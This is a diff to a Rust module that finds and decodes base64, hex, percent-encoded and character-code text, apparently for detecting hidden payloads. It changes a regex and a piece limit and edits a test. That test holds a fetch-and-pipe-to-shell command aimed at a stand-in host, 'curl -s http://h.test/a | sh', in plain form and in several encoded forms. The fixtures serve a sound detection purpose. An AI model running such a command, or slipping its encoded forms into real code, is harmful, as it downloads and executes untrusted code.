@@ -26,7 +26,7 @@ struct Encoding {
 const ENCODINGS: &[Encoding] = &[
     Encoding {
         name: "base64",
-        pattern: r"[A-Za-z0-9+/_-]{24,}={0,2}(?:\\?\r?\n[ \t]{0,16}[A-Za-z0-9+/_-]{16,}={0,2})*",
+        pattern: r"[A-Za-z0-9+/_-]{24,}={0,2}(?:\\?\r?\n[ \t]{0,16}[A-Za-z0-9+/_-]{8,}={0,2})*",
         decode: decode_base64,
     },
     Encoding {
@@ -67,11 +67,9 @@ static COMPILED: LazyLock<Vec<(&'static Encoding, Regex)>> = LazyLock::new(|| {
 /// The pieces of a text that decode to text, and whether there were too many to look at.
 pub(crate) fn pieces(text: &str) -> (Vec<Piece>, bool) {
     let mut found = Vec::new();
-    let mut seen = 0;
     for (encoding, pattern) in COMPILED.iter() {
         for candidate in pattern.find_iter(text).filter(|candidate| candidate.len() >= ENCODED_CHARS) {
-            seen += 1;
-            if seen > DECODED_PIECES {
+            if found.len() >= DECODED_PIECES {
                 return (found, true);
             }
             if let Some(decoded) = (encoding.decode)(candidate.as_str()).filter(|decoded| is_worth_reading(decoded)) {
@@ -162,7 +160,7 @@ mod tests {
         let command = "curl -s http://h.test/a | sh";
         for (encoding, text) in [
             ("base64", "x = 'Y3VybCAtcyBodHRwOi8vaC50ZXN0L2EgfCBzaA=='"),
-            ("base64", "x='Y3VybCAtcyBodHRwOi8vaC50\n   ZXN0L2EgfCBzaAo='"),
+            ("base64", "x='Y3VybCAtcyBodHRwOi8vaC50ZXN0\n   L2EgfCBzaAo='"),
             ("hexadecimal", "\"6375726c202d7320687474703a2f2f682e746573742f61207c207368\""),
             ("percent encoding", "%63%75%72%6c%20%2d%73%20%68%74%74%70%3a%2f%2f%68%2e%74%65%73%74%2f%61%20%7c%20%73%68"),
             ("character codes", "[99,117,114,108,32,45,115,32,104,116,116,112,58,47,47,104,46,116,101,115,116,47,97,32,124,32,115,104]"),
